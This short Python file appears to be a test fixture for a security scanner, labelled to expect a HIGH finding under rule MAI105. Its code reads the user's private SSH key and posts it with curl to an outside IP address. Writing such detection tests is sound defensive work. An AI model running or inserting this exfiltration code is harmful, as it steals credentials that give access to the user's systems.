# expect: HIGH
# rules: MAI105
import os, subprocess
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
subprocess.run(["curl", "-d", key, "https://198.51.100.7/k"])
